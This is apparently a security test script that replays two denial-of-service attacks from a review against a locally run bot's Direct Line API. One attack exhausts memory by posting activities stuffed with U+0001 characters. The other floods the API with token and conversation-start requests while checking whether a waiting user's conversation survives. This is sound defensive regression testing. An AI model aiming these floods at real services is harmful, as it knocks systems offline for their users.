#!/usr/bin/env python3
"""Replays the security review's two Direct Line attacks against a running bot and prints what they cost.

  memory: 30 conversations, each sent 100 activities stuffed with 16,300 raw U+0001 characters (the review's event,
          and the same bytes as message text); prints the bot's RSS before and after, and the largest poll.
  flood:  a patient's conversation polls every second while 1,500 token+start pairs arrive as fast as the bot takes
          them; prints how many starts were refused and whether the patient's conversation is still there.

Usage: python3 tests/attacks/replay.py memory|flood --url http://127.0.0.1:3978 --pid PID
Start the bot with RateLimiting:Enabled=false and DirectLine:MaxConversationsPerClient=10000 so that one machine
can play many clients. Standard library only.
"""
import argparse, json, threading, time, urllib.request, urllib.error

def call(url, method="GET", token=None, body=None):
    data = body.encode("utf-8") if isinstance(body, str) else body
    request = urllib.request.Request(url, data=data, method=method)
    if token:
        request.add_header("Authorization", "Bearer " + token)
    if data is not None:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()

def start(base):
    status, body = call(base + "/api/directline/token", "POST")
    token = json.loads(body)["token"]
    status, body = call(base + "/v3/directline/conversations", "POST", token, "")
    if status not in (200, 201):
        return None, status
    return (token, json.loads(body)["conversationId"]), status

def rss_mb(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0

def memory(base, pid):
    stuffing = "\u0001" * 16300
    bodies = ['{"type":"event","name":"x","value":"%s"}' % stuffing, '{"type":"message","text":"%s"}' % stuffing,
              '{"type":"message","text":"%s?"}' % stuffing[:3990]]
    before = rss_mb(pid)
    conversations, statuses = [], {}
    started = time.time()
    for c in range(30):
        conversation, _ = start(base)
        conversations.append(conversation)
        token, cid = conversation
        for i in range(100):
            status, _ = call(f"{base}/v3/directline/conversations/{cid}/activities", "POST", token, bodies[i % 3])
            statuses[status] = statuses.get(status, 0) + 1
    largest = max(len(call(f"{base}/v3/directline/conversations/{cid}/activities", "GET", token)[1]) for token, cid in conversations)
    after = rss_mb(pid)
    print(f"memory attack: 30 conversations x 100 posts in {time.time() - started:.1f} s, statuses {dict(sorted(statuses.items()))}")
    print(f"RSS before {before:.0f} MB, after {after:.0f} MB, added {after - before:.0f} MB; largest poll {largest / 1024:.1f} KB")

def flood(base):
    patient, _ = start(base)
    stop = threading.Event()
    polls = {"ok": 0, "lost": 0}
    def poll():
        token, cid = patient
        while not stop.is_set():
            status, _ = call(f"{base}/v3/directline/conversations/{cid}/activities", "GET", token)
            polls["ok" if status == 200 else "lost"] += 1
            time.sleep(1)
    poller = threading.Thread(target=poll)
    poller.start()
    refused, statuses, started = 0, {}, time.time()
    def worker(count):
        nonlocal refused
        for _ in range(count):
            conversation, status = start(base)
            statuses[status] = statuses.get(status, 0) + 1
    workers = [threading.Thread(target=worker, args=(375,)) for _ in range(4)]
    for w in workers: w.start()
    for w in workers: w.join()
    elapsed = time.time() - started
    time.sleep(1.5)
    stop.set(); poller.join()
    token, cid = patient
    status, _ = call(f"{base}/v3/directline/conversations/{cid}/activities", "GET", token)
    print(f"flood: 1,500 token+start pairs in {elapsed:.1f} s, start statuses {dict(sorted(statuses.items()))}")
    print(f"patient's polls during the flood: {polls['ok']} answered, {polls['lost']} lost; after: HTTP {status}")

if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=["memory", "flood"])
    parser.add_argument("--url", default="http://127.0.0.1:3978")
    parser.add_argument("--pid", type=int)
    args = parser.parse_args()
    memory(args.url, args.pid) if args.attack == "memory" else flood(args.url)
